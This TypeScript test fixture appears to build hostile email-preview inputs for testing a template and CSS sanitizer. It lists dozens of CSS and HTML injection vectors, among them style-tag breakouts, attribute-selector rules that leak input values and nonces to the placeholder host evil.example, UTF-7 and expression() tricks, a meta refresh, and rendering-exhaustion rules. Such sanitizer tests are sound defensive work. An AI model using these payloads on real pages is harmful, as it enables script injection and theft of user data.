/** Templates and style sheets that a merchant may have copied from anywhere: none may do more than look like something. */
import { vectors } from './vectors';

export interface HostilePreview {
  body: string;
  css: string;
}

/** What an e-mail puts around it. */
const mails: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) =>
    `<!doctype html><html><head><style>p{color:red}</style>${vector}</head><body bgcolor="#eee"><p>Hello</p></body></html>`,
  (vector) => `<table width="600"><tr><td>${vector}</td></tr></table><p>{{unsubscribeUrl}}</p>`,
];

const evil = 'https://evil.example';

/** Rules that ask, lead, cover or tell somebody something. */
const rules: readonly string[] = [
  `@import url(${evil}/a.css);`,
  `@import "${evil}/b.css" layer(x) supports(display:block) screen;`,
  `@font-face{font-family:x;src:url(${evil}/c.woff2)}body{font-family:x}`,
  `@namespace url(${evil}/ns);`,
  `body{background:url(${evil}/d.png)}`,
  `body{background-image:image-set(url(${evil}/e.png) 1x, "${evil}/f.png" 2x)}`,
  `body{background:\\75 rl(${evil}/g.png)}`,
  `body{cursor:url(${evil}/h.cur),auto}`,
  `ul{list-style:url(${evil}/i.png)}`,
  `p{content:url(${evil}/j.png)}p::before{content:url(${evil}/k.png)}`,
  `p{border-image:url(${evil}/l.png) 30}`,
  `p{filter:url(${evil}/m.svg#f);clip-path:url(${evil}/n.svg#c);mask:url(${evil}/o.svg#m)}`,
  `p{shape-outside:url(${evil}/p.png)}`,
  `p{offset-path:url(${evil}/q.svg#p)}`,
  `input[value^=a]{background:url(${evil}/r?a)}[data-pick^=a]{background:url(${evil}/s?a)}`,
  `script[nonce^=a]{display:block;background:url(${evil}/t?a)}`,
  `:root{--x:url(${evil}/u.png)}body{background:var(--x)}`,
  `body:has([nonce*=a]){background:url(${evil}/v.png)}`,
  `@media(min-width:1px){body{background:url(${evil}/w.png)}}`,
  `@supports(display:block){body{background:url(${evil}/x.png)}}`,
  `@keyframes a{to{background:url(${evil}/y.png)}}body{animation:a 1s infinite}`,
  `@page{background:url(${evil}/z.png)}`,
  '*{position:fixed!important;inset:0!important;z-index:2147483647!important;background:red!important}',
  'html{height:calc(100% + 1px)}body{height:calc(100vh + 1px)}',
  `body{-moz-binding:url(${evil}/xbl.xml#x);behavior:url(${evil}/x.htc)}`,
  'p{width:expression(canary())}',
  'p{background:url(javascript:canary())}',
  `p{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'><image href='${evil}/sv.png'/></svg>")}`,
  '</style><script>canary()</script>',
  '</style><img src=x onerror=canary()>',
  '<!--</style><script>canary()</script>-->',
  `}{}</style><link rel=stylesheet href=${evil}/ls.css>`,
  '@charset "utf-7";+ADw-script+AD4-canary()+ADw-/script+AD4-',
  `body{color:red}/*</style><meta http-equiv=refresh content="0;url=${evil}">*/`,
  `a{ping:url(${evil}/pg)}a::after{content:attr(href)}`,
  `@container(min-width:1px){body{background:url(${evil}/ct.png)}}`,
  `@view-transition{navigation:auto}@property --y{syntax:"<url>";inherits:false;initial-value:url(${evil}/pr.png)}`,
  '@layer a{body{background:url(//evil.example/ly.png)}}',
  'body{counter-reset:x 2147483647}p{zoom:1e9;transform:scale(1e9)}',
  '{'.repeat(3000),
];

const markup =
  '<p data-pick="a" class="lw-a">Text <a href="https://evil.example/link" target="_top">link</a></p><ul><li>One</li></ul><input value="a"><details><summary>More</summary>x</details>';

/** Whole previews: hostile mails with hostile sheets beside, and each sheet alone. */
export const hostilePreviews: readonly HostilePreview[] = [
  ...mails.flatMap((mail, n) =>
    vectors.map((vector, m) => ({ body: mail(vector), css: rules[(n + m) % rules.length] ?? '' })),
  ),
  ...rules.flatMap((css) => [
    { body: markup, css },
    { body: `<style>${css}</style>${markup}`, css: '' },
    { body: `<p style="${css.replaceAll('"', '&quot;')}">x</p>${markup}`, css },
  ]),
];
